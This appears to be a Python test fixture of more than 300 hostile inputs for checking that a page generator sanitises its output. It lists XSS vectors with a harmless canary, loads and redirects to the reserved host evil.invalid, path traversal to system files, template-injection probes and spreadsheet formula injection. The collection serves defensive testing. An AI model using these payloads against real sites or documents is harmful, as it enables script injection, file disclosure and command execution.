"""More than 300 texts as somebody would write them who wants a page to run, to load, to lie or to break.

`pwned()` is the canary that observe.js counts; `evil.invalid` is a host that nothing may ask for.
"""

from __future__ import annotations

# Elements that run something by themselves.
_ELEMENTS = [
    "<script>pwned()</script>", "<ScRiPt>pwned()</sCrIpT>", "<script >pwned()</script >", "<script\n>pwned()</script\n>",
    "<script src=//evil.invalid/x.js></script>", "<script src=https://evil.invalid/x.js></script>",
    r"<script src=\\evil.invalid\share\x.js></script>", "<script src=file:///tmp/x.js></script>",
    "<script type=module>pwned()</script>", "<script type='text/javascript'>pwned()", "<script>pwned()//",
    "</script><script>pwned()</script>", "</title><script>pwned()</script>", "</textarea><script>pwned()</script>",
    "</style><script>pwned()</script>", "</noscript><script>pwned()</script>", "--><script>pwned()</script>",
    "]]><script>pwned()</script>", "'\"><script>pwned()</script>", "`><script>pwned()</script>",
    "<<script>pwned()//<</script>", "<scr<script>ipt>pwned()</scr</script>ipt>", "<script/x>pwned()</script>",
    "<script\x0c>pwned()</script>", "<script\t>pwned()</script>", "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;", "\\<script\\>pwned()\\</script\\>", "＜script＞pwned()＜/script＞",
    "<svg><script>pwned()</script></svg>", "<svg><script href=data:,pwned() /></svg>",
    "<math><script>pwned()</script></math>", "<template><script>pwned()</script></template>",
    "<iframe src=javascript:pwned()></iframe>", "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=//evil.invalid/></iframe>", "<iframe src=file:///etc/passwd></iframe>",
    "<object data=javascript:pwned()></object>", "<object data=//evil.invalid/x.swf></object>",
    "<embed src=javascript:pwned()>", "<embed src=//evil.invalid/x>", "<applet code=//evil.invalid/x></applet>",
    "<frameset><frame src=javascript:pwned()></frameset>", "<portal src=https://evil.invalid></portal>",
    "<base href=https://evil.invalid/>", r"<base href=\\evil.invalid\share\>", "<base target=_blank>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>", "<meta http-equiv=refresh content='0;javascript:pwned()'>",
    "<meta http-equiv=Set-Cookie content=x>", "<meta http-equiv=Content-Security-Policy content=''>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>", "<link rel=import href=//evil.invalid/x>",
    "<link rel=prefetch href=https://evil.invalid/x>", "<link rel=icon href=//evil.invalid/x.ico>",
    "<form action=https://evil.invalid/><input name=a><button>x</button></form>", "<form action=javascript:pwned()><button>x</form>",
    "<button formaction=javascript:pwned()>x</button>", "<isindex action=javascript:pwned()>", "<input type=image src=//evil.invalid/x>",
    "<keygen autofocus onfocus=pwned()>", "<dialog open>x</dialog>", "<plaintext>", "<xmp>", "<listing>", "<!--", "<![CDATA[",
    "<?php echo 1 ?>", "<%= 1 %>", "<!doctype x>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
]  # fmt: skip

# Event handlers.
_HANDLERS = [
    f"<{element} {event}=pwned()>"
    for element, event in [
        ("img src=x", "onerror"), ("img src=x:", "OnErRoR"), ("img/src=x", "onerror"), ("image src=x", "onerror"),
        ("svg", "onload"), ("svg/", "onload"), ("body", "onload"), ("body", "onpageshow"), ("body", "onhashchange"),
        ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
        ("video", "onloadstart"), ("video><source", "onerror"), ("audio src=x", "onerror"), ("details open", "ontoggle"),
        ("marquee", "onstart"), ("div style='animation-name:x'", "onanimationstart"), ("a href=x", "onclick"),
        ("p tabindex=0 id=x", "onfocus"), ("style", "onload"), ("link rel=stylesheet href=x", "onerror"),
        ("object data=x", "onerror"), ("iframe", "onload"), ("math", "onmouseover"), ("xss contenteditable", "onbeforeinput"),
        ("div hidden=until-found", "onbeforematch"), ("p popover", "onbeforetoggle"), ("table background=x", "onload"),
        ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onbegin"), ("form><input", "oninvalid"),
    ]
]  # fmt: skip
_HANDLERS += [
    "<img src='x'onerror='pwned()'>", "<img src=x onerror\x09=\x09pwned()>", "<img src=x\x0aonerror\x0a=\x0apwned()>",
    "<img src=x onerror=&#112;wned()>", "<img src=`x`onerror=pwned()>", '<img """><img src=x onerror=pwned()>">',
    '" onmouseover="pwned()', "' onmouseover='pwned()", '" autofocus onfocus="pwned()', "x\" onload=pwned() x=\"",
    '"><img src=x onerror=pwned()>', "'><img src=x onerror=pwned()>", '&quot;&gt;&lt;img src=x onerror=pwned()&gt;',
    "</p></div></article><img src=x onerror=pwned()>", "</a><img src=x onerror=pwned()>", "</option></select><img src=x onerror=pwned()>",
]  # fmt: skip

# Addresses, each as a link and as a picture, in Markdown and in HTML.
_ADDRESSES = [
    "javascript:pwned()", "JaVaScRiPt:pwned()", "  javascript:pwned()", "java\tscript:pwned()", "java&#10;script:pwned()",
    "java&Tab;script:pwned()", "&#106;avascript:pwned()", "&#x6A;avascript&colon;pwned()", "\x01javascript:pwned()",
    "javascript&#58;pwned()", "javascript://%0apwned()", "vbscript:pwned()", "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload=pwned()>", "blob:null/x",
    "file:///etc/passwd", "file://evil.invalid/share/x", "FILE:///C:/Windows/win.ini", "C:/Windows/win.ini", "/etc/passwd",
    "/C:/Windows/win.ini", "//evil.invalid/x.png", "///evil.invalid/x.png", r"\\evil.invalid\share\x.png", r"/\evil.invalid/x.png",
    r"\/evil.invalid/x.png", "/&#9;/evil.invalid/x.png", "/&#10;/evil.invalid/x.png", "&#47;&#47;evil.invalid/x.png", "%5C%5Cevil.invalid%5Cx",
    "../../../../../../etc/passwd", "..%2f..%2f..%2fetc/passwd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "a/../../../../x",
    r"..\..\..\x", "https://evil.invalid/x.png", "http:evil.invalid/x.png", "https:\\\\evil.invalid/x.png", "ftp://evil.invalid/x",
    "view-source:https://evil.invalid", "ms-word:ofe|u|https://evil.invalid/x.doc", "search-ms:query=x", "intent://evil.invalid#Intent;end",
    "about:blank", "chrome://settings", "feed:javascript:pwned()", "mhtml:file://evil.invalid/x",
]  # fmt: skip
_LINKS = [
    text
    for number, address in enumerate(_ADDRESSES)
    for text in (
        [f"[点]({address})", f"![图]({address})"]
        if number % 2
        else [f"<a href='{address}'>点</a>", f"<img src='{address}'>"]
    )
]
_LINKS += [f"[点][{n}]\n\n[{n}]: <{address}>" for n, address in enumerate(_ADDRESSES[:12])]
_LINKS += [
    "<javascript:pwned()>", "<https://evil.invalid/>", "https://evil.invalid/看", "[a](<javascript:pwned()>)", '[a](x "\\" onclick=pwned() x=")',
    "[a](x '><img src=x onerror=pwned()>')", "![a\" onerror=pwned() x=\"](x)", "[![a](x)](javascript:pwned())", "[a](javascript:pwned()\n)",
    "[x](x){: onclick=pwned() }", "# 题 {: onmouseover=pwned() }", "标题 {#x onclick=pwned()}", "脚注[^1]\n\n[^1]: <img src=x onerror=pwned()>",
    "*[字]: <script>pwned()</script>\n\n字", "```html\n<script>pwned()</script>\n```", "    <script>pwned()</script>", "`<script>pwned()</script>`",
    "| a | b |\n|---|---|\n| <script>pwned()</script> | x |", "> <script>pwned()</script>", "- <script>pwned()</script>",
    "!!! note\n    <script>pwned()</script>", "--8<-- 'file:///etc/passwd'", "[TOC]", "[[x]]", "::: x\n<script>pwned()</script>",
]  # fmt: skip

# Styles and pictures that ask for something.
_STYLES = [
    "<style>*{background:url(//evil.invalid/x)}</style>", "<style>@import '//evil.invalid/x.css';</style>",
    "<p style='background:url(//evil.invalid/x)'>x</p>", "<p style=\"background:url('javascript:pwned()')\">x</p>",
    "<p style='width:expression(pwned())'>x</p>", "<p style='-moz-binding:url(//evil.invalid/x)'>x</p>",
    "<p style='position:fixed;inset:0;background:#fff;z-index:9999'>盖住</p>", "<font color=red size=99>大</font>",
    "<img srcset='//evil.invalid/x 1x'>", "<picture><source srcset=//evil.invalid/x><img src=x></picture>", "<img src=//evil.invalid/x>",
    "<img lowsrc=//evil.invalid/x dynsrc=//evil.invalid/y>", "<video poster=//evil.invalid/x></video>", "<video src=//evil.invalid/x autoplay></video>",
    "<audio src=//evil.invalid/x autoplay></audio>", "<track src=//evil.invalid/x>", "<table background=//evil.invalid/x><td>x</table>",
    "<svg><image href=//evil.invalid/x /></svg>", "<svg><use href=//evil.invalid/x#y /></svg>", "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
    "<a href=x ping=//evil.invalid/>x</a>", "<a href=x target=_top download>x</a>", "<body background=//evil.invalid/x>",
    "<svg><foreignObject><iframe src=javascript:pwned()></iframe></foreignObject></svg>",
]  # fmt: skip

# Markup that changes when it is parsed a second time.
_MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>", "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=pwned()></style>", "<svg><title><style><img src=x onerror=pwned()>",
    "<listing>&lt;img src=x onerror=pwned()&gt;</listing>", "<p title=\"`\"onerror=\"pwned()\">x", "<table><tr><td></table><img src=x onerror=pwned()>",
    "<select><style></select><img src=x onerror=pwned()></style>", "<xmp><p title='</xmp><img src=x onerror=pwned()>'>",
    "<!--[if gte IE 4]><script>pwned()</script><![endif]-->", "<!--><img src=x onerror=pwned()>-->", "<!--!><img src=x onerror=pwned()>-->",
    "<a href='x'>代办<img alt='<x' src='y' title='> 代办 <img src=x onerror=pwned()>'></a>", "a&NewLine;b&lpar;&#0;&#xD800;&#x110000;",
]  # fmt: skip

# The program's own marks, and templates of every kind.
_MARKS = [
    "@@anliku:body@@", "@@anliku:csp@@", "@@anliku:scripts@@", "@@anliku:head@@", "@@anliku:title@@", "@@policy@@", "@@library@@",
    "<!--anliku:intro-->", "<!--/anliku:intro--><script>pwned()</script>", "<!--include:verify.css-->", "{{ site.name }}",
    "{{ config }}", "{{ 7*7 }}", "{% include 'x' %}", "{% raw %}", "{# x #}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "%s %d %n {0} {x}", "$x$", "#set page(width: 1pt)", "#include \"/etc/passwd\"", "#eval(\"1\")", "#image(\"/etc/passwd\")",
    "`#raw`", "*x* _y_ $z$ <lab> @ref", "\\#let x = 1",
]  # fmt: skip

# What breaks a script, a file name, a line, a spreadsheet.
_BREAKERS = [
    "\u2028", "\u2029", "a\u2028b\u2029c", '"};pwned();//', "'});pwned();//", "\\", "\\\\", '\\"', "\\u003cscript\\u003e", "\\x3cscript\\x3e",
    "*/pwned();/*", "//", "${pwned()}", "`${pwned()}`", "__proto__", "constructor", "toString", "hasOwnProperty", "\u202e倒过来\u202c", "\u2066x\u2069",
    "\u200b\ufeff零宽", "\ufffe\uffff", "\x00", "\x1b[31m红\x1b[0m", "\x7f\x85\x9f", "e\u0301\u0327" * 20, "𠮷𠀀👨\u200d👩\u200d👧", "\U000e0041\U000e0042",
    "=cmd|'/c calc'!A1", "=HYPERLINK(\"https://evil.invalid\")", "+1+cmd|x!A1", "-1+cmd|x!A1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=WEBSERVICE(\"https://evil.invalid\")",
    "＝1+1", "../../../etc/passwd", "..\\..\\x", "con", "aux.html", "a/b?c#d", ".", "..", " ", "-", "|", "NULL", "true", "1e999", "０", "x" * 3000, "长" * 2000,
    "lt", "gt", "amp", "quot", "#39", "a&amp;b", "&", "&;", "&#", "<", ">", "< >", "<a", "</", "a<b>c",
]  # fmt: skip

HOSTILE = list(dict.fromkeys(_ELEMENTS + _HANDLERS + _LINKS + _STYLES + _MUTATIONS + _MARKS + _BREAKERS))
